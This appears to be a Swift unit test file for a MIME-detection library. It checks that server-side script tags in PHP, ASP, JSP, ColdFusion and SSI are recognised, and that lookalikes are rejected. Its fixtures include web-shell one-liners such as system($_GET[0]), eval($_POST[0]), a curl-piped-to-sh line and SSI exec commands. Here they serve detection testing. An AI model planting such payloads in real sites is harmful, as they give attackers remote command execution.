import MIMETypes
import Testing

@testable import MIMEDetection

struct EmbeddedTagTests {
    private static func tag(_ text: String) -> EmbeddedTag? {
        let bytes = Array(text.utf8)
        guard bytes.count > 1 else { return nil }
        return bytes.withUnsafeBytes { EmbeddedTag(ByteCursor($0), second: bytes[1]) }
    }

    @Test(arguments: [
        ("<?php echo 1;", EmbeddedTag.php), ("<?PHP\n", .php), ("<?= $x + function() ?>", .php),
        ("<% Response.Write(1) %>", .asp), ("<jsp:include page=\"x\"/>", .jsp), ("<cfexecute name=\"x\">", .coldFusion),
        ("<CFSET a=1>", .coldFusion), ("<cfhttp url=\"x\">", .coldFusion), ("<script>", .html),
        ("<? system($_GET[0]);?>", .php), ("<?=`curl x|sh`?>", .php), ("<?=require\"/tmp/x\"?>", .php),
        ("<?=`id`?>", .php), ("<?=$x?>", .php), ("<?eval($_POST[0]);", .php), ("<?/**/eval($_POST[0]);", .php),
        ("<!--#exec\tcmd=\"id\"-->", .include), ("<!--# exec cmd=\"id\"-->", .include),
        ("<!--#EXEC cmd=\"id\"-->", .include), ("<!--#printenv-->", .include),
        ("<SCRIPT src=x>", .html), ("<!doctype html>", .html), ("<body/onload=x>", .html),
    ])
    func tagIsKnown(_ text: String, _ expected: EmbeddedTag) {
        #expect(Self.tag(text) == expected)
    }

    @Test(arguments: [
        "<?phpx", "<?xml version=\"1.0\"?>", "<?=\u{1}\u{2}$(", "<?= only words and more", "<% no end of it at all",
        "<%\u{1}%>", "<? only words", "<?xpacket begin=\"\" id=\"W5M0Mp($)\"?>", "<?$x", "<?$\u{1}(aaaaaaaaaaaa",
        "<!--#executive", "<!--# a note -->", "<cfx>", "<js:x", "<scripture>", "<h1>", "<!ELEMENT a>",
    ])
    func bytesThatOnlyStartLikeOneAreNone(_ text: String) {
        #expect(Self.tag(text) == nil)
    }

    @Test func readingHasItsTextUpToTheEndOfTheLine() {
        let bytes = Array("xx<?php system(1);\nmore".utf8)
        bytes.withUnsafeBytes {
            let reading = EmbeddedTag.php.reading(at: ByteCursor($0, at: 2))
            #expect(reading.kind == .serverScript)
            #expect(reading.offset == 2)
            #expect(reading.detail == "<?php system(1);")
        }
    }
}
